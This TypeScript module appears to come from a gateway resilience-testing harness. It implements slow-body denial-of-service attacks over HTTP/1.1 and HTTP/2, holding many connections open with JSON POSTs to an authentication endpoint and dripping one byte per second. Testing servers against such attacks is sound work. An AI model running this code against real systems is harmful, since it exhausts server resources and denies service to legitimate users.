// SPDX-License-Identifier: Apache-2.0
// Bodies that come a byte at a time, without end, where JSON is expected.
import { type AttackOptions, dial, holding, type StartAttack, session, several } from './attack.ts';

const LENGTH = 100_000;
const EVERY = 1_000;

export const slowBodyOfHttp1: StartAttack = async (
  gateway,
  { connections = 200, path = '/identity/v3/auth/tokens' }: AttackOptions = {},
) => {
  const sockets = await several(connections, async () => {
    const socket = await dial(gateway, 'http/1.1');
    socket.on('data', () => undefined);
    socket.write(
      `POST ${path} HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\nContent-Length: ${LENGTH}\r\n\r\n{`,
    );
    return socket;
  });
  const drip = setInterval(() => {
    for (const socket of sockets) if (!socket.destroyed) socket.write(' ');
  }, EVERY);
  return holding(sockets, () => clearInterval(drip));
};

export const slowBodyOfHttp2: StartAttack = async (
  gateway,
  { connections = 20, each = 10, path = '/identity/v3/auth/tokens' }: AttackOptions = {},
) => {
  const sessions = await several(connections, () => session(gateway));
  const streams = sessions.flatMap((one) =>
    Array.from({ length: each }, () => {
      const stream = one.request({ ':method': 'POST', ':path': path, 'content-type': 'application/json' });
      stream.on('error', () => undefined).resume();
      stream.write('{');
      return stream;
    }),
  );
  const drip = setInterval(() => {
    for (const stream of streams) if (!stream.destroyed) stream.write(' ');
  }, EVERY);
  return {
    open: () => streams.filter(({ destroyed }) => !destroyed).length,
    async stop() {
      clearInterval(drip);
      for (const one of sessions) one.destroy();
    },
  };
};
